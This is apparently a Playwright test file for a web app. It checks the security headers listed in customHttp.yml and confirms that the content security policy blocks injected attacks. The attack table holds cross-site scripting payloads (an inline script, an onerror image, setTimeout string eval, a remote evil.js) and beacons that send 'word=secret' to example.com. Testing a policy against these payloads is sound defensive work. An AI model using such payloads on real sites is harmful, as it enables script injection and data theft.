import { expect, test, type Page } from "@playwright/test";
import { readFile } from "node:fs/promises";
import { parse } from "yaml";
import { sourceOf } from "../support/journey.ts";
import { serveDeployments, type Deployments } from "../support/deployments.ts";
import { watchPolicy } from "../support/policy.ts";
import { kept } from "../support/service-worker.ts";

let site: Deployments;
test.beforeAll(async () => {
  test.setTimeout(120_000);
  site = await serveDeployments();
});
test.afterAll(() => site.close());

interface Listed {
  readonly customHeaders: readonly { readonly headers: readonly { readonly key: string; readonly value: string }[] }[];
}

test("the page comes with every header of the list that Amplify Hosting reads", async ({ request }) => {
  const { customHeaders } = parse(await readFile("customHttp.yml", "utf8")) as Listed;
  const sent = (await request.get(site.origin)).headers();
  for (const { key, value } of customHeaders[0]?.headers ?? []) expect(sent[key.toLowerCase()], key).toBe(value);
  expect(sent["strict-transport-security"]).toContain("max-age=31536000");
});

/** Runs in the page as a text would that found its way into it; `ran` says whether it got to do anything. */
const attacks: Readonly<Record<string, () => unknown>> = {
  "a script in the page": () => {
    const script = document.createElement("script");
    script.text = "window.ran = true";
    document.head.append(script);
  },
  "a script of another site": () => {
    const script = document.createElement("script");
    script.src = "https://example.com/evil.js";
    document.head.append(script);
  },
  "an attribute that acts": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.ran = true");
    document.body.append(button);
    button.click();
  },
  "a text that becomes markup": () => void (document.body.innerHTML = "<img src=x onerror='window.ran = true'>"),
  // oxlint-disable-next-line no-implied-eval -- the attack itself
  "a text that becomes code": () => void setTimeout("window.ran = true"),
  "a style in the page": () => {
    const style = document.createElement("style");
    style.textContent = "body { display: none }";
    document.head.append(style);
  },
  "a frame": () => {
    const frame = document.createElement("iframe");
    frame.src = "https://example.com/";
    document.body.append(frame);
  },
  "a word to another site": () => void fetch("https://example.com/?word=secret").catch(() => undefined),
  "a picture of another site": () => {
    new Image().src = "https://example.com/?word=secret";
  },
  "another worker": () => navigator.serviceWorker.register("/assets/evil.js").catch(() => undefined),
};

async function openPage(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await watchPolicy(page.context(), (what) => violations.push(what));
  await page.goto(site.origin);
  await expect(sourceOf(page)).toBeVisible();
  await kept(page);
  expect(violations, "opening the page, and keeping it on the device, breaks no rule").toEqual([]);
  return violations;
}

test("nothing that is smuggled into the page runs, or leaves it", async ({ page }) => {
  const violations = await openPage(page);
  for (const [what, attack] of Object.entries(attacks)) {
    violations.length = 0;
    // What a rule refuses in the same turn throws; what it refuses later does not.
    await page.evaluate(attack).catch(() => undefined);
    await expect.poll(() => violations.length, { message: `${what} is refused` }).toBeGreaterThan(0);
  }
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
});
